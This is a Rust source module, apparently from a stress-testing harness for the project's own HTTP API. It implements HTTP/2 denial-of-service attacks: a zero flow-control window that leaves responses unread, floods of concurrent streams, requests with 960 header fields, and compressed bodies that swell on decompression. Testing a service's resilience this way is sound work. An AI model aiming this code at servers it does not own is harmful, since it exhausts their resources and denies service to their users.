//! Attacks by HTTP/2: many streams at once on a connection.

use std::io;
use std::net::IpAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use bytes::Bytes;
use h2::SendStream;
use h2::client::{Builder, ResponseFuture, SendRequest};
use hyper::http::HeaderValue;
use hyper::{Method, Request};
use tokio::task::JoinSet;
use tokio::time::{sleep, sleep_until, timeout_at};

use super::Target;
use super::posted::open_session;
use crate::bodies::{self, EVENT_BYTES, gzip};
use crate::client::Counted;
use crate::tally::Answer;

/// How many streams a connection has.
const STREAMS: usize = 128;

/// How many header fields a request has.
const FIELDS: usize = 960;

/// How often a connection, or a stream of it, is opened anew at most, and how long after the last.
const REOPENED_MAX: usize = 20;
const REOPEN_PAUSE: Duration = Duration::from_millis(100);

/// How long it takes until a stream that was refused makes way for another.
const RETRY_PAUSE: Duration = Duration::from_millis(200);

/// Asks on one connection for the largest answers, and leaves no room for them to be sent.
pub(super) async fn unread_large_answers(target: Target) {
    unread_answers(target, 1, "/api/v1/downloaded", &bodies::stored_long_name()).await;
}

/// Asks on many connections for answers that cost less to make.
pub(super) async fn unread_many_answers(target: Target) {
    unread_answers(target, 64, "/api/v1/sessions", &bodies::long_name()).await;
}

async fn unread_answers(target: Target, connections: usize, path: &'static str, body: &[u8]) {
    let body = Bytes::from(gzip(body));
    let make = move |target: &Target| {
        let request = post(target, path).header("content-encoding", "gzip");
        Some((request.body(()).ok()?, Some(body.clone())))
    };
    run(target, connections, make).await;
}

/// Sends heads of many short fields and leaves the bodies open.
pub(super) async fn many_headers(target: Target) {
    let make = |target: &Target| {
        let mut request = post(target, "/api/v1/sessions").body(()).ok()?;
        for _ in 0..FIELDS {
            request.headers_mut().append("a", HeaderValue::from_static(""));
        }
        Some((request, None))
    };
    run(target, 330, make).await;
}

/// Sends events of one session that are large once they are unpacked, on as many streams as there may be.
pub(super) async fn large_events(target: Target) {
    let from = target.addresses.attacker();
    let Some(path) = open_session(&target, from).await else { return };
    let events = bodies::ad_events(256, EVENT_BYTES);
    let events: Vec<_> = events.iter().map(|event| Bytes::from(gzip(event.as_bytes()))).collect();
    let (events, next) = (Arc::new(events), Arc::new(AtomicUsize::new(0)));
    let make = move |target: &Target| {
        let event = &events[next.fetch_add(1, Ordering::Relaxed) % events.len()];
        let request = post(target, &path).header("content-encoding", "gzip");
        Some((request.body(()).ok()?, Some(event.clone())))
    };
    run(target, 3, make).await;
}

fn post(target: &Target, path: &str) -> hyper::http::request::Builder {
    Request::builder().method(Method::POST).uri(format!("http://{}{path}", target.listen))
}

/// What is sent on a stream: a head, and the body or nothing to leave it open.
type Sent = (Request<()>, Option<Bytes>);

/// Opens so many connections with as many streams as there may be, and holds them until it is over.
async fn run(
    target: Target,
    connections: usize,
    make: impl Fn(&Target) -> Option<Sent> + Clone + Send + Sync + 'static,
) {
    let mut workers = JoinSet::new();
    for _ in 0..connections {
        let (target, make) = (target.clone(), make.clone());
        workers.spawn(async move {
            let from = target.addresses.attacker();
            for _ in 0..REOPENED_MAX {
                if target.is_over() {
                    return;
                }
                if connection(&target, from, &make).await.is_err() {
                    target.tally.answered(Answer::NoConnection, 0);
                }
                sleep(REOPEN_PAUSE).await;
            }
        });
    }
    while workers.join_next().await.is_some() {}
}

/// One connection, until it is over or the server closes it.
async fn connection(
    target: &Target,
    from: IpAddr,
    make: impl Fn(&Target) -> Option<Sent>,
) -> io::Result<()> {
    let stream = Counted::connect(from, target.listen, None, Some(&target.tally)).await?;
    let mut builder = Builder::new();
    builder.initial_window_size(0).initial_max_send_streams(STREAMS).enable_push(false);
    let (sender, connection) = builder.handshake(stream).await.map_err(io::Error::other)?;
    tokio::select! {
        // It is closed, or failed; either way all its streams are over.
        _ = connection => target.tally.answered(Answer::Closed, 0),
        () = hold_streams(target, sender, make) => {}
    }
    Ok(())
}

/// Opens as many streams as there may be, and holds each until it is over.
async fn hold_streams(
    target: &Target,
    mut sender: SendRequest<Bytes>,
    make: impl Fn(&Target) -> Option<Sent>,
) {
    let mut streams = JoinSet::new();
    let mut may_open = STREAMS * REOPENED_MAX;
    while may_open > 0 {
        if streams.len() >= STREAMS {
            // One that is done with makes way for another.
            match timeout_at(target.end, streams.join_next()).await {
                Ok(Some(Ok(true))) => {}
                _ => break,
            }
        }
        let Ok(Ok(ready)) = timeout_at(target.end, sender.ready()).await else { break };
        sender = ready;
        let Some((request, body)) = make(target) else { break };
        let Ok((response, mut stream)) = sender.send_request(request, false) else { break };
        if let Some(body) = body {
            // What the window does not let through yet waits in the client.
            let _ = stream.send_data(body, true);
        }
        may_open -= 1;
        let target = target.clone();
        streams.spawn(async move { hold_stream(&target, response, stream).await });
        // Between two heads the connection has to write them.
        tokio::task::yield_now().await;
    }
    while streams.join_next().await.is_some() {}
    sleep_until(target.end).await;
}

/// Waits for the answer of a stream and keeps it, unread, until it is over; gives whether another may take its place
/// before.
async fn hold_stream(target: &Target, response: ResponseFuture, stream: SendStream<Bytes>) -> bool {
    let Ok(answered) = timeout_at(target.end, response).await else {
        target.tally.answered(Answer::Held, 0);
        return false;
    };
    let Ok(response) = answered else {
        target.tally.answered(Answer::Reset, 0);
        sleep(RETRY_PAUSE).await;
        return true;
    };
    let length = response.headers().get("content-length").and_then(|value| value.to_str().ok());
    let length = length.and_then(|digits| digits.parse().ok()).unwrap_or(0);
    let status = response.status().as_u16();
    target.tally.answered(Answer::Status(status), length);
    if matches!(status, 201 | 204) {
        // There is nothing to hold.
        return true;
    }
    if matches!(status, 429 | 503) {
        sleep(RETRY_PAUSE).await;
        return true;
    }
    sleep_until(target.end).await;
    drop(stream);
    false
}
